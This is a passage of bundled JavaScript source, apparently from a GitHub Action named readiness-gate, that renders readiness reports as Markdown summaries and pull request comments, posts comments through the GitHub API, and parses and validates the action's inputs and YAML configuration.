    out.push("### Other measurements", mdTable(["Metric", "Value"], rows.slice(0, cap2)) + moreLine(rows.length, cap2, "metric"));
  }
  return out;
}
function todoLine(r) {
  const t = r.metrics.todos;
  if (!t || typeof t.total !== "number") return void 0;
  if (t.total === 0) return "No TODO/FIXME/HACK/XXX markers.";
  const markers = Object.entries(t.byMarker ?? {}).filter(([, n]) => n > 0).map(([m, n]) => `${escapeMarkdown(m)} ${formatInt(n)}`).join(", ");
  const limit = r.options.maxTodos === void 0 ? "" : ` (limit ${formatInt(r.options.maxTodos)})`;
  const top = (t.topFiles ?? []).slice(0, 3).map((f) => `${codeSpan(f.path)} (${formatInt(f.count)})`).join(", ");
  const where3 = typeof t.files === "number" ? `, in ${plural(t.files, "file")}` : "";
  return `${plural(t.total, "TODO/FIXME/HACK/XXX marker")}${limit}: ${markers}${where3}${top ? `; most in ${top}` : ""}.`;
}
function hasData(v) {
  if (v === void 0 || v === null) return false;
  if (Array.isArray(v)) return v.length > 0;
  if (typeof v === "object") return Object.keys(v).length > 0;
  return true;
}
function metricBody(v, cap2) {
  if (typeof v !== "object" || v === null) return valueCell(v);
  if (Array.isArray(v)) return recordsTable(v, cap2);
  const entries = Object.entries(v).sort((a, b) => a[0] < b[0] ? -1 : a[0] > b[0] ? 1 : 0);
  const scalars = entries.filter(([, x]) => !Array.isArray(x));
  const lists = entries.filter(([, x]) => Array.isArray(x) && x.length > 0);
  const parts = [];
  if (scalars.length > 0) {
    const rows = scalars.slice(0, cap2).map(([k, x]) => [escapeMarkdown(k), valueCell(x)]);
    parts.push(mdTable(["Measure", "Value"], rows) + moreLine(scalars.length, cap2, "measure"));
  }
  for (const [k, list] of lists) parts.push(`**${escapeMarkdown(k)}**`, recordsTable(list, cap2));
  return parts.join("\n\n");
}
function recordsTable(list, cap2) {
  const records = list.filter((x) => typeof x === "object" && x !== null && !Array.isArray(x));
  if (records.length !== list.length) return valueCell(list);
  const cols = [...new Set(records.flatMap((x) => Object.keys(x)))];
  const rows = records.slice(0, cap2).map((x) => cols.map((c) => x[c] === void 0 ? "" : valueCell(x[c])));
  return mdTable(cols.map((c) => escapeMarkdown(c)), rows) + moreLine(records.length, cap2, "row");
}
function valueCell(v) {
  if (typeof v === "number") return Number.isInteger(v) ? formatInt(v) : String(Math.round(v * 100) / 100);
  if (typeof v === "string") return escapeMarkdown(v, "br");
  if (typeof v === "boolean" || v === null) return String(v);
  const json = JSON.stringify(v) ?? "";
  return codeSpan(json.length > 200 ? `${json.slice(0, 199)}…` : json, true);
}
function effortSection(r, groups, cap2) {
  if (groups.length === 0) return [];
  const rows = groups.slice(0, cap2).map((g, i) => [String(i + 1), ruleLink(r, g.ruleId, true), g.severity, formatInt(g.findings.length), formatHours(g.effortMinutes)]);
  rows.push(["", "**total**", "", `**${formatInt(r.findings.length)}**`, `**${formatHours(r.effortMinutes)}**`]);
  return ["### Estimated effort", mdTable(["#", "Rule", "Severity", "Findings", "Effort"], rows, ["r", "l", "l", "r", "r"]) + moreLine(groups.length, cap2, "rule")];
}
function profileSection(r) {
  const how = r.profile.source === "input" ? "set by configuration" : "detected";
  const note = r.profile.kind === "library" ? " Service-only rules (health endpoint, deployment, monitoring, runbook) do not apply." : "";
  const reasons = r.profile.reasons.map((x) => `- ${escapeMarkdown(x)}`).join("\n");
  return ["### Profile", `**${r.profile.kind}** (${how}).${note}${reasons ? `

${reasons}` : ""}`];
}
function mapSection(r) {
  if (!r.map) return [];
  const lines = summaryLines(r.map);
  if (lines.length === 0) return [];
  return ["### Repository map", lines.map((l) => `- ${escapeMarkdown(l)}`).join("\n")];
}
var SKIP_TEXT = {
  binary: "binary",
  tooLarge: "too large",
  generated: "generated or vendored",
  ignored: "ignored by configuration",
  symlink: "symbolic link",
  unreadable: "unreadable",
  output: "named like the gate's output, not committed"
};
function skippedSection(r, cap2) {
  const out = [];
  const reasons = SKIP_REASONS.filter((k) => (r.skipped[k] ?? 0) > 0);
  if (reasons.length > 0) {
    const rows = reasons.map((k) => {
      const text = k === "tooLarge" ? `larger than ${(r.options.maxFileSize / 1048576).toFixed(0)} MiB` : SKIP_TEXT[k];
      return [text, formatInt(r.skipped[k]), examples(r.skippedExamples[k] ?? [], r.skipped[k], Math.min(cap2, 3))];
    });
    out.push(mdTable(["Skipped", "Files", "Examples"], rows, ["l", "r", "l"]));
  }
  const every = r.everyFileRead;
  if (every) {
    const rules = every.rules.map((id) => codeSpan(id)).join(" and ");
    out.push(`${rules} read every tracked file: they also read ${plural(every.files, "skipped file")} (generated, too large, or binary): ${examples(every.examples, every.files, Math.min(cap2, 3))}.`);
  }
  if (r.nonUtf8.length > 0) {
    const were = r.nonUtf8.length === 1 ? "was" : "were";
    out.push(`${plural(r.nonUtf8.length, "file")} ${were} not valid UTF-8 and ${were} read as Latin-1: ${examples(r.nonUtf8, r.nonUtf8.length, Math.min(cap2, 5))}.`);
  }
  if (r.malformed.length > 0) {
    const rows = r.malformed.slice(0, cap2).map((m) => [codeSpan(m.path, true), escapeMarkdown(m.kind), escapeMarkdown(m.reason, "br")]);
    out.push(`${plural(r.malformed.length, "file")} could not be parsed (counted, the rest of the scan completed):`);
    out.push(mdTable(["File", "Kind", "Problem"], rows) + moreLine(r.malformed.length, cap2, "file"));
  }
  return out.length > 0 ? ["### What was not scanned", ...out] : [];
}
function examples(list, total, max) {
  const shown = list.slice(0, max).map((p) => codeSpan(p, true));
  return shown.join(", ") + (total > shown.length ? ", …" : "");
}
function suppressedSection(r, cap2) {
  const n = r.suppressed.length;
  if (n === 0) return [];
  const inline = r.suppressed.filter((f) => f.suppressed?.source === "inline").length;
  const line = `${plural(n, "finding is", "findings are")} suppressed (${formatInt(inline)} inline, ${formatInt(n - inline)} by configuration) and neither count nor block.`;
  if (cap2 === 0) return ["### Suppressed", line];
  const rows = r.suppressed.slice(0, cap2).map((f) => [
    where2(r, f, true),
    ruleLink(r, f.ruleId, true),
    f.severity,
    escapeMarkdown(f.suppressed?.reason ?? "", "br") + (f.suppressed?.expires ? ` (until ${escapeMarkdown(f.suppressed.expires)})` : "")
  ]);
  const table = mdTable(["Location", "Rule", "Severity", "Reason"], rows) + moreLine(n, cap2, "suppressed finding");
  return ["### Suppressed", line, n > COLLAPSE_OVER2 ? details(`${formatInt(n)} suppressed findings`, table) : table];
}
function moreLine(total, cap2, what) {
  return total > cap2 ? `

…and ${plural(total - cap2, `more ${what}`)}.` : "";
}
function footer(r) {
  const files = [r.options.report && `JSON report ${codeSpan(r.options.report)}`, r.options.sarif && `SARIF ${codeSpan(r.options.sarif)}`].filter(Boolean);
  return `---
<sub>${escapeMarkdown(`${r.tool.name} ${r.tool.version}`)}${files.length > 0 ? ` · full details: ${files.join(", ")}` : ""} · ${mdLink("rule docs", `${r.tool.informationUri.replace(/\/+$/, "")}/tree/main/rules/checks`)}</sub>`;
}
function minimal(r, limitBytes) {
  const lines = [
    `## ${r.verdict.blocked ? "⛔ BLOCKED" : "✅ READY"}`,
    "",
    `Score ${r.score.value}/100 (${r.score.grade}) · ${SEVERITIES.map((s) => `${r.counts[s]} ${s}`).join(" · ")}. The full summary did not fit; see the JSON report or SARIF.`
  ];
  let out = "";
  for (const l of lines) {
    if (utf8Bytes(`${out}${l}
`) > limitBytes) break;
    out += `${l}
`;
  }
  return out;
}

// src/github/pr-comment.ts
import { createHash } from "node:crypto";

// src/report/comment.ts
var COMMENT_LIMIT_CHARS = 6e4;
var COMMENT_P1_RULES = 3;
var LADDER = [
  { rules: 20, fresh: 50, links: true },
  { rules: 10, fresh: 20, links: true },
  { rules: 5, fresh: 5, links: true },
  { rules: 0, fresh: 0, links: true },
  { rules: 0, fresh: 0, links: false }
];
function renderComment(r) {
  const groups = fixGroups(r.findings);
  for (const caps of LADDER) {
    const body = render2(r, groups, caps);
    if (body.length <= COMMENT_LIMIT_CHARS) return body;
  }
  return minimal2(r);
}
function render2(r, groups, caps) {
  const head = r.verdict.blocked ? "### ⛔ readiness-gate: BLOCKED" : "### ✅ readiness-gate: READY";
  const why = r.verdict.blocked ? blockerSentence(r, groups, caps.links) : readyLine(r);
  const blocks = [head, why, countsLine(r), ...fixFirst2(r, groups, caps), ...newSection(r, caps)];
  blocks.push("<sub>The job summary of this run has every finding, the area scores and the checks that could not tell.</sub>");
  return `${blocks.join("\n\n")}
`;
}
function readyLine(r) {
  return r.options.failOn === "never" ? "fail-on is `never`: findings are reported and none blocks." : `No finding at or above ${r.options.failOn} and every threshold is met.`;
}
function countsLine(r) {
  return `**Score ${r.score.value}/100, grade ${r.score.grade}** · ${formatInt(r.counts.P0)} P0 · ${formatInt(r.counts.P1)} P1 · ${formatInt(r.counts.P2)} P2 · ≈ ${formatHours(r.effortMinutes)} of fixes`;
}
function fixFirst2(r, groups, caps) {
  const blocking = new Set(blockingGroups(r, groups).map((g) => `${g.severity}\0${g.ruleId}`));
  const first = groups.filter((g) => g.severity === "P0" || blocking.has(`${g.severity}\0${g.ruleId}`));
  const p1 = groups.filter((g) => g.severity === "P1" && !first.includes(g)).slice(0, COMMENT_P1_RULES);
  const chosen = [...first.slice(0, caps.rules), ...caps.rules > 0 ? p1 : []];
  if (chosen.length === 0) return [];
  const items = chosen.map((g, i) => {
    const f = g.findings[0];
    const more2 = g.findings.length - 1;
    const rule2 = mdLink(codeSpan(g.ruleId), ruleDocUrl(r.tool.informationUri, g.ruleId));
    return `${i + 1}. ${g.severity} **${escapeMarkdown(g.title)}** (${rule2}, ${plural(g.findings.length, "finding")}): ${placeMarkdown(r.links, f.location)}${more2 > 0 ? ` and ${formatInt(more2)} more` : ""}
   - Fix: ${authoredMarkdown(f.remediation)}`;
  });
  const left = groups.length - chosen.length;
  const tail = left > 0 ? `

…and ${plural(left, "more rule")} in the job summary.` : "";
  return ["#### Fix first", items.join("\n") + tail];
}
function comparedWithBaseline(r) {
  if (r.findings.some((f) => f.baseline !== void 0)) return true;
  return r.policy?.baselineInForce ?? (Boolean(r.options.baseline) && r.findings.length === 0);
}
function newSection(r, caps) {
  const heading = "#### New in this pull request";
  if (!comparedWithBaseline(r)) {
    return [heading, "There is no baseline to compare with, so every finding counts as new. Set the `baseline` input to the JSON report of the base branch to see what this pull request adds."];
  }
  const fresh = r.findings.filter((f) => f.baseline === "new");
  if (fresh.length === 0) return [heading, "No new finding: everything reported was already in the baseline."];
  const by = ["P0", "P1", "P2"].filter((s) => fresh.some((f) => f.severity === s)).map((s) => `${formatInt(fresh.filter((f) => f.severity === s).length)} ${s}`);
  const lines = fresh.slice(0, caps.fresh).map((f) => newLine(r, f));
  const more2 = fresh.length - lines.length;
  return [
    heading,
    `${plural(fresh.length, "new finding")} against the baseline (${by.join(", ")}).`,
    ...lines.length > 0 ? [lines.join("\n") + (more2 > 0 ? `

…and ${plural(more2, "more new finding")} in the job summary.` : "")] : []
  ];
}
function newLine(r, f) {
  return `- ${f.severity} ${placeMarkdown(r.links, f.location)} ${markdownMessage(r, f)}`;
}
function minimal2(r) {
  const head = r.verdict.blocked ? "### ⛔ readiness-gate: BLOCKED" : "### ✅ readiness-gate: READY";
  return `${head}

${countsLine(r)}

The details did not fit in a comment: see the job summary of this run.
`;
}

// src/github/pr-comment.ts
var PAGE_SIZE = 100;
var MAX_PAGES = 30;
var DIGEST = /<!-- readiness-gate-digest:([0-9a-f]{64}) -->/;
function commentMarker(root) {
  const safe = root.replace(/[^A-Za-z0-9._/@+-]|-(?=-)/gu, (c) => [...Buffer.from(c, "utf8")].map((b) => `%${b.toString(16).toUpperCase().padStart(2, "0")}`).join(""));
  return `<!-- readiness-gate:${safe} -->`;
}
function commentDigest(r) {
  const findings = r.findings.map((f) => `${f.fingerprint}:${f.baseline ?? ""}`).sort();
  return createHash("sha256").update(JSON.stringify({ blocked: r.verdict.blocked, reasons: r.verdict.reasons, findings })).digest("hex");
}
function commentPlan(r, mode) {
  const marker = commentMarker(r.root);
  const digest = commentDigest(r);
  const body = `${cutAtLine(renderComment(r), COMMENT_LIMIT_CHARS, "\n\n… (cut: the full report is in the job summary)\n").trimEnd()}

${marker}
<!-- readiness-gate-digest:${digest} -->
`;
  return { mode, marker, digest, body, worthPosting: r.verdict.blocked || annotatable(r).length > 0 };
}
async function postComment(api, pullNumber, plan) {
  try {
    const existing = await findComment(api, pullNumber, plan.marker);
    if (existing) {
      if (plan.mode === "on-change" && existing.digest === plan.digest) return { ok: true, log: `readiness-gate: pull request comment ${existing.id} unchanged.` };
      await api.request("PATCH /repos/{owner}/{repo}/issues/comments/{comment_id}", { comment_id: existing.id, body: plan.body });
      return { ok: true, log: `readiness-gate: pull request comment ${existing.id} updated.` };
    }
    if (plan.mode === "on-change" && !plan.worthPosting) return { ok: true, log: "readiness-gate: no finding and no block: no pull request comment." };
    const created = await api.request("POST /repos/{owner}/{repo}/issues/{issue_number}/comments", { issue_number: pullNumber, body: plan.body });
    return { ok: true, log: `readiness-gate: pull request comment ${typeof created?.id === "number" ? `${created.id} ` : ""}created.` };
  } catch (e) {
    const err = e;
    if (err.status === 403) {
      return {
        ok: false,
        notice: `pr-comment: the token may not comment on the pull request (${err.message}): a read-only token, as on pull requests from forks, or a job without the pull-requests permission. The verdict is in the job summary; grant \`permissions: pull-requests: write\` to the job for the comment.`
      };
    }
    return { ok: false, notice: `pr-comment: the pull request comment could not be posted (${err.message ?? String(e)}); the verdict is in the job summary.` };
  }
}
async function findComment(api, pullNumber, marker) {
  for (let page = 1; page <= MAX_PAGES; page++) {
    const list = await api.request("GET /repos/{owner}/{repo}/issues/{issue_number}/comments", { issue_number: pullNumber, per_page: PAGE_SIZE, page });
    const comments = Array.isArray(list) ? list : [];
    for (const c of comments) {
      if (typeof c?.id !== "number" || typeof c.body !== "string" || c.user?.type !== "Bot" || !c.body.includes(marker)) continue;
      return { id: c.id, digest: DIGEST.exec(c.body)?.[1] };
    }
    if (comments.length < PAGE_SIZE) return void 0;
  }
  return void 0;
}

// src/suggest.ts
var MAX_INPUT = 64;
function closest(input, candidates) {
  if (input.length === 0 || input.length > MAX_INPUT) return void 0;
  const a = input.toLowerCase();
  let best;
  let bestDistance = Infinity;
  for (const c of candidates) {
    const limit = c.length < 10 ? 1 : c.length < 15 ? 2 : 3;
    if (Math.abs(c.length - a.length) > limit) continue;
    const d = distance(a, c.toLowerCase());
    if (d <= limit && d < bestDistance) {
      best = c;
      bestDistance = d;
    }
  }
  return best;
}
function didYouMean(input, candidates) {
  const c = closest(input, candidates);
  return c === void 0 ? "" : `; did you mean '${c}'?`;
}
function distance(a, b) {
  const rows = a.length + 1;
  const cols = b.length + 1;
  const d = new Array(rows * cols).fill(0);
  for (let i = 0; i < rows; i++) d[i * cols] = i;
  for (let j = 0; j < cols; j++) d[j] = j;
  for (let i = 1; i < rows; i++) {
    for (let j = 1; j < cols; j++) {
      const cost = a[i - 1] === b[j - 1] ? 0 : 1;
      let v = Math.min(d[(i - 1) * cols + j] + 1, d[i * cols + j - 1] + 1, d[(i - 1) * cols + j - 1] + cost);
      if (i > 1 && j > 1 && a[i - 1] === b[j - 2] && a[i - 2] === b[j - 1]) v = Math.min(v, d[(i - 2) * cols + j - 2] + 1);
      d[i * cols + j] = v;
    }
  }
  return d[rows * cols - 1];
}

// src/inputs.ts
var import_picomatch = __toESM(require_picomatch(), 1);
var import_spdx_expression_parse = __toESM(require_spdx_expression_parse(), 1);
var import_yaml = __toESM(require_dist(), 1);
import { existsSync, lstatSync, statSync } from "node:fs";
import { dirname, isAbsolute, join, relative, resolve, sep } from "node:path";
var INPUTS = {
  path: { default: ".", description: "Directory to scan, relative to the workspace." },
  config: { default: "", description: "Configuration file. Default: .github/readiness-gate.yml, else .readiness-gate.yml, in the scanned directory. On pull_request and pull_request_target events it is read from the base commit, never from the pull request; a file outside the repository, or owner/repo/path@ref (read with github-token), is the platform team's policy and always wins." },
  profile: { default: "", description: "service, library or auto (default auto, or the configuration file's profile): auto detects a deployable service. Service-only rules are skipped for libraries." },
  "fail-on": { default: "", description: "Lowest severity that blocks: P0, P1, P2 or never (default P0, or the configuration file's fail-on)." },
  "min-score": { default: "", description: "Block when the readiness score is below this (0-100)." },
  "max-p1": { default: "", description: "Block when there are more P1 findings than this." },
  "max-p2": { default: "", description: "Block when there are more P2 findings than this." },
  "coverage-threshold": { default: "", description: "Minimum total line coverage, percent (0-100)." },
  "type-coverage-threshold": { default: "", description: "Minimum share of fully type-annotated functions, percent (0-100)." },
  "test-reports": { default: "", description: "Globs of test reports (JUnit XML and dialects), one per line or comma-separated. Default: auto-discovery." },
  "coverage-reports": { default: "", description: "Globs of coverage reports (Cobertura, lcov, coverage.py JSON, Istanbul, Go cover profile, JaCoCo). Default: auto-discovery." },
  "build-logs": { default: "", description: "Globs of compiler, type-checker or linter logs to turn into findings." },
  baseline: { default: "", description: "A previous JSON report; its findings are marked existing." },
  "new-findings-only": { default: "false", description: "With baseline: only new findings can block (true or false)." },
  sbom: { default: "sbom.cdx.json", description: "Where to write the CycloneDX SBOM ('' to skip)." },
  "sbom-format": { default: "json", description: "json or xml." },
  "sbom-spec-version": { default: "1.6", description: "CycloneDX spec version: 1.5, 1.6 or 1.7." },
  "vulnerability-scan": { default: "osv", description: "osv (query OSV for the SBOM components) or off." },
  "osv-url": { default: "https://api.osv.dev", description: "OSV API base URL (for mirrors and tests)." },
  "deny-licenses": { default: "", description: "SPDX license IDs or expressions that are not allowed, comma-separated or one per line." },
  report: { default: "readiness-report.json", description: "JSON report path ('' to skip)." },
  sarif: { default: "readiness-gate.sarif", description: "SARIF 2.1.0 path ('' to skip)." },
  "max-annotations": { default: "50", description: "Most annotations to emit, worst first (0-1000). As workflow commands GitHub shows at most 10 per level per step; the verdict keeps its slot." },
  annotations: { default: "workflow-commands", description: "workflow-commands (GitHub keeps 10 per level per step) or check-run (a check run named readiness-gate with every annotation; needs checks: write, falls back to workflow commands on a read-only token)." },
  "pr-comment": { default: "off", description: "off, on or on-change: on pull request events, one comment updated in place with the verdict, the blockers and what is new (needs pull-requests: write). on-change posts only when the verdict or the findings changed." },
  "sarif-category": { default: "", description: "SARIF automationDetails.id (a category, e.g. readiness-gate/api). Empty: none is written, so upload-sarif's category input applies." },
  "sarif-rules": { default: "security", description: "security (only rules tagged security reach code scanning; the rest stay in the summary, annotations and JSON) or all." },
  "upload-artifact": { default: "false", description: "true, false, or an artifact name: upload the JSON report, SARIF, SBOM and summary as a workflow artifact (default name readiness-gate)." },
  "dependency-graph": { default: "false", description: "true or false (default): submit the SBOM's components to GitHub's dependency graph (the dependency submission API), per manifest, direct and indirect, so Dependabot alerts cover them. Needs contents: write; a read-only token is a warning, never a failed gate. Not sent for pull requests from forks nor on pull_request_target." },
  "private-packages": { default: "", description: "Package name globs never sent to OSV (e.g. @acme/*, com.acme:*), on top of packages the lockfiles show resolved from a private registry." },
  cache: { default: "true", description: "true, false, or a folder: keep what each file said between runs, keyed by its git blob id, so a re-run reads only changed files. In the action, saved and restored with the Actions cache (not on pull request refs, whose cache a pull request can write; there, with the default folder under RUNNER_TEMP, no cache is built)." },
  "github-token": { default: "${{ github.token }}", description: "Token for repository settings checks (branch protection) and for reading the base commit's policy through the contents API when the checkout lacks it. Optional." },
  rules: { default: "", description: "Extra directory of declarative rules (same format as the built-in rules/)." }
};
var DEFAULT_MAX_FILE_SIZE = 2 * 1024 * 1024;
var CONFIG_CANDIDATES = [".github/readiness-gate.yml", ".github/readiness-gate.yaml", ".readiness-gate.yml", ".readiness-gate.yaml"];
var CONFIG_MAX_BYTES = 1024 * 1024;
function fail(what, value, accepted) {
  throw new ConfigurationError(`${what}: '${value}' is not valid; accepted: ${accepted}.`);
}
var DECIMAL = /^(?:0|[1-9]\d{0,14})(?:\.\d{1,15})?$/;
var WHOLE = /^(?:0|[1-9]\d{0,14})$/;
function parseNumber(what, v, min, max, integer = false) {
  const t = v.trim();
  const n = Number(t);
  if (!(integer ? WHOLE : DECIMAL).test(t) || n < min || n > max) {
    fail(what, v, `${integer ? "a whole number" : "a number"} from ${min} to ${max}, in plain decimal`);
  }
  return n;
}
function parseLicenseList(what, v) {
  const items = parseList(v);
  for (const item2 of items) {
    let ok = true;
    try {
      (0, import_spdx_expression_parse.default)(item2);
    } catch {
      ok = false;
    }
    if (!ok) fail(what, item2, "SPDX license IDs or expressions as in the SPDX list, comma-separated (e.g. GPL-3.0-only, GPL-2.0+, AGPL-3.0-only OR SSPL-1.0)");
  }
  return items;
}
function parseEnum(what, v, values) {
  const hit = values.find((x) => x.toLowerCase() === v.trim().toLowerCase());
  if (hit === void 0) fail(what, v, values.join(", "));
  return hit;
}
function parseBoolean(what, v) {
  if (["true", "True", "TRUE"].includes(v.trim())) return true;
  if (["false", "False", "FALSE"].includes(v.trim())) return false;
  fail(what, v, "true or false");
}
function parseList(v) {
  if (!v) return [];
  return v.split(/[\n,]/).map((s) => s.trim()).filter((s) => s !== "");
}
function isoToday() {
  return (/* @__PURE__ */ new Date()).toISOString().slice(0, 10);
}
var TOP_KEYS = ["profile", "fail-on", "thresholds", "paths", "rules", "suppressions", "limits"];
var THRESHOLD_KEYS = ["coverage", "type-coverage", "min-score", "max-p1", "max-p2", "max-todos"];
var PATHS_KEYS = ["ignore", "generated", "runtime", "test", "example"];
var SUPPRESSION_KEYS = ["rule", "path", "reason", "expires"];
var LIMITS_KEYS = ["max-file-size"];
function parseConfigFile(text, file) {
  const lineCounter = new import_yaml.LineCounter();
  const doc = (0, import_yaml.parseDocument)(text, { lineCounter, prettyErrors: false, uniqueKeys: true });
  if (doc.errors.length > 0) {
    const e = doc.errors[0];
    const pos = e.linePos?.[0];
    throw new ConfigurationError(`config file ${file}${pos ? `:${pos.line}:${pos.col}` : ""} is not valid YAML: ${e.message.split("\n")[0]}`);
  }
  const cfg = { thresholds: {}, paths: { ignore: [], generated: [], runtime: [], test: [], example: [] }, rules: /* @__PURE__ */ new Map(), suppressions: [] };
  const root = doc.contents;
  if (root === null || (0, import_yaml.isScalar)(root) && (root.value === null || root.value === "")) return cfg;
  const lineOf = (n) => n?.range ? lineCounter.linePos(n.range[0]).line : void 0;
  const where3 = (key) => `config file ${file}: ${key}`;
  const scalar = (n, key) => {
    if ((0, import_yaml.isScalar)(n) && typeof n.value === "number" && typeof n.source === "string") return n.source;
    if ((0, import_yaml.isScalar)(n) && (typeof n.value === "string" || typeof n.value === "number" || typeof n.value === "boolean")) return String(n.value);
    throw new ConfigurationError(`${where3(key)} must be a single value`);
  };
  const map = (n, key, allowed) => {
    if (!(0, import_yaml.isMap)(n)) throw new ConfigurationError(`${where3(key)} must be a mapping with keys: ${allowed.join(", ")}`);
    const out = [];
    for (const item2 of n.items) {
      const k = (0, import_yaml.isScalar)(item2.key) ? String(item2.key.value) : String(item2.key);
      if (!allowed.includes(k)) {
        throw new ConfigurationError(`${where3(key ? `${key}.${k}` : k)} is not a known key; accepted: ${allowed.join(", ")}`);
      }
      out.push([k, item2.value]);
    }
    return out;
  };
  const strings = (n, key) => {
    if ((0, import_yaml.isSeq)(n)) return n.items.map((i, idx) => scalar(i, `${key}[${idx}]`));
    return [scalar(n, key)];
  };
  for (const [k, v] of map(root, "", TOP_KEYS)) {
    switch (k) {
      case "profile":
        cfg.profile = parseEnum(where3("profile"), scalar(v, k), ["service", "library", "auto"]);
        break;
      case "fail-on":
        cfg.failOn = parseEnum(where3("fail-on"), scalar(v, k), [...SEVERITIES, "never"]);
        break;
      case "thresholds":
        for (const [tk, tv] of map(v, "thresholds", THRESHOLD_KEYS)) {
          const s = scalar(tv, `thresholds.${tk}`);
          const w = where3(`thresholds.${tk}`);
          if (tk === "coverage") cfg.thresholds.coverage = parseNumber(w, s, 0, 100);
          else if (tk === "type-coverage") cfg.thresholds.typeCoverage = parseNumber(w, s, 0, 100);
          else if (tk === "min-score") cfg.thresholds.minScore = parseNumber(w, s, 0, 100);
          else if (tk === "max-p1") cfg.thresholds.maxP1 = parseNumber(w, s, 0, 1e9, true);
          else if (tk === "max-p2") cfg.thresholds.maxP2 = parseNumber(w, s, 0, 1e9, true);
          else cfg.thresholds.maxTodos = parseNumber(w, s, 0, 1e9, true);
        }
        break;
      case "paths":
        for (const [pk, pv] of map(v, "paths", PATHS_KEYS)) cfg.paths[pk] = strings(pv, `paths.${pk}`);
        break;
      case "limits":
        for (const [, lv] of map(v, "limits", LIMITS_KEYS)) cfg.maxFileSize = parseNumber(where3("limits.max-file-size"), scalar(lv, "limits.max-file-size"), 1, 1024 ** 3, true);
        break;
      case "rules":
        if (!(0, import_yaml.isMap)(v)) throw new ConfigurationError(`${where3("rules")} must be a mapping of rule id to off, P0, P1 or P2`);
        for (const item2 of v.items) {
          const id = (0, import_yaml.isScalar)(item2.key) ? String(item2.key.value) : String(item2.key);
          if (!isRuleId(id)) throw new ConfigurationError(`${where3(`rules.${id}`)} is not a known rule id${didYouMean(id, RULE_IDS) || `; see the rule list in the README (e.g. ${RULE_IDS.slice(0, 3).join(", ")})`}`);
          const raw = (0, import_yaml.isScalar)(item2.value) && item2.value.value === false ? "off" : scalar(item2.value, `rules.${id}`);
          cfg.rules.set(id, parseEnum(where3(`rules.${id}`), raw, ["off", ...SEVERITIES]));
        }
        break;
      case "suppressions": {
        if (!(0, import_yaml.isSeq)(v)) throw new ConfigurationError(`${where3("suppressions")} must be a list of {rule, path, reason, expires}`);
        v.items.forEach((item2, i) => {
          const key = `suppressions[${i}]`;
          const entry = new Map(map(item2, key, SUPPRESSION_KEYS));
          const rule2 = entry.has("rule") ? scalar(entry.get("rule"), `${key}.rule`) : "";
          if (rule2 !== "*" && !isRuleId(rule2)) throw new ConfigurationError(`${where3(`${key}.rule`)}: '${rule2}' is not a known rule id (or '*')${didYouMean(rule2, RULE_IDS)}`);
          const path = entry.has("path") ? scalar(entry.get("path"), `${key}.path`) : "**";
          const reason = entry.has("reason") ? scalar(entry.get("reason"), `${key}.reason`).trim() : "";
          let expires;
          if (entry.has("expires")) {
            expires = scalar(entry.get("expires"), `${key}.expires`);
            if (!/^\d{4}-\d{2}-\d{2}$/.test(expires) || Number.isNaN(Date.parse(expires))) fail(where3(`${key}.expires`), expires, "a date YYYY-MM-DD");
          }
          if (rule2 === "*" && matchesEverything(path)) {
            throw new ConfigurationError(`${where3(key)}: rule '*' with path '${path}' would silence every finding; accepted: a rule id, or '*' for a narrower path`);
          }
          cfg.suppressions.push({ rule: rule2, path, reason, expires, location: { path: file, line: lineOf(item2) } });
        });
        break;
      }
    }
  }
  return cfg;
}
var PROBES = ["src/app.py", ".github/workflows/ci.yml", "a/b/c/d/e/f.ts", "Z_9-x/README", "node_modules/.bin/x", "x/.env"];
function matchesEverything(glob) {
  let m;
  try {
    m = (0, import_picomatch.default)(glob, { dot: true });
  } catch {
    return false;
  }
  return PROBES.every((p) => m(p));
}
function readCheckoutConfig(raw, cwd, root) {
  const explicit = raw.config?.trim() || void 0;
  const roots = trustedRoots(cwd);
  let abs;
  if (explicit) {
    abs = isAbsolute(explicit) ? explicit : resolve(cwd, explicit);
    if (!existsSync(abs) && !isLink(abs)) fail(`input 'config'`, explicit, "the path of an existing YAML file");
  } else {
    abs = CONFIG_CANDIDATES.map((c) => join(root, c)).find((c) => existsSync(c) || isLink(c));
  }
  if (!abs) return void 0;
  const label = relPosix(root, abs);
  const within2 = roots.some((r) => abs.startsWith(r + "/") || abs === r);
  try {
    return { text: readRegularText(abs, { roots: within2 ? roots : [dirname(abs)], maxBytes: CONFIG_MAX_BYTES }), label };
  } catch (e) {
    if (e instanceof UnsafeFileError) {
      throw new ConfigurationError(`${explicit ? `input 'config': ${explicit}` : `config file ${label}`} ${e.message}; accepted: a regular YAML file of at most ${CONFIG_MAX_BYTES} bytes`);
    }
    throw e;
  }
}
function isLink(p) {
  try {
    return lstatSync(p).isSymbolicLink();
  } catch {
    return false;
  }
}
function resolveOptions(raw, rc) {
  const get = (name) => (raw[name] ?? INPUTS[name].default).trim();
  const given = (name) => {
    const v = raw[name]?.trim();
    return v === void 0 || v === "" ? void 0 : v;
  };
  const label = (name) => `input '${name}'`;
  const root = resolve(rc.cwd, get("path") || ".");
  if (!isDirectory(root)) fail(label("path"), get("path"), "an existing directory");
  const config = rc.config === void 0 ? readCheckoutConfig(raw, rc.cwd, root) : rc.config ?? void 0;
  const file = config ? parseConfigFile(config.text, config.label) : { thresholds: {}, paths: { ignore: [], generated: [], runtime: [], test: [], example: [] }, rules: /* @__PURE__ */ new Map(), suppressions: [] };
  const configRel = config?.label;
  if (config) refuseSlowGlobs(file, config.label);
  const num = (name, min, max, integer = false) => {
    const v = given(name);
    return v === void 0 ? void 0 : parseNumber(label(name), v, min, max, integer);
  };
  const outPath = (name) => {
    const v = get(name);
    return v === "" ? null : v;
  };
  const token = given("github-token");
  const opts = {
    root,
    cwd: rc.cwd,
    configFile: configRel,
    profile: given("profile") ? parseEnum(label("profile"), get("profile"), ["service", "library", "auto"]) : file.profile ?? "auto",
    failOn: given("fail-on") ? parseEnum(label("fail-on"), get("fail-on"), [...SEVERITIES, "never"]) : file.failOn ?? "P0",
    minScore: num("min-score", 0, 100) ?? file.thresholds.minScore,
    maxP1: num("max-p1", 0, 1e9, true) ?? file.thresholds.maxP1,
    maxP2: num("max-p2", 0, 1e9, true) ?? file.thresholds.maxP2,
    coverageThreshold: num("coverage-threshold", 0, 100) ?? file.thresholds.coverage,
    typeCoverageThreshold: num("type-coverage-threshold", 0, 100) ?? file.thresholds.typeCoverage,
    maxTodos: file.thresholds.maxTodos,
    testReports: parseList(raw["test-reports"]),
    coverageReports: parseList(raw["coverage-reports"]),
    buildLogs: parseList(raw["build-logs"]),
    baseline: given("baseline"),
    newFindingsOnly: parseBoolean(label("new-findings-only"), get("new-findings-only")),
    sbom: outPath("sbom"),
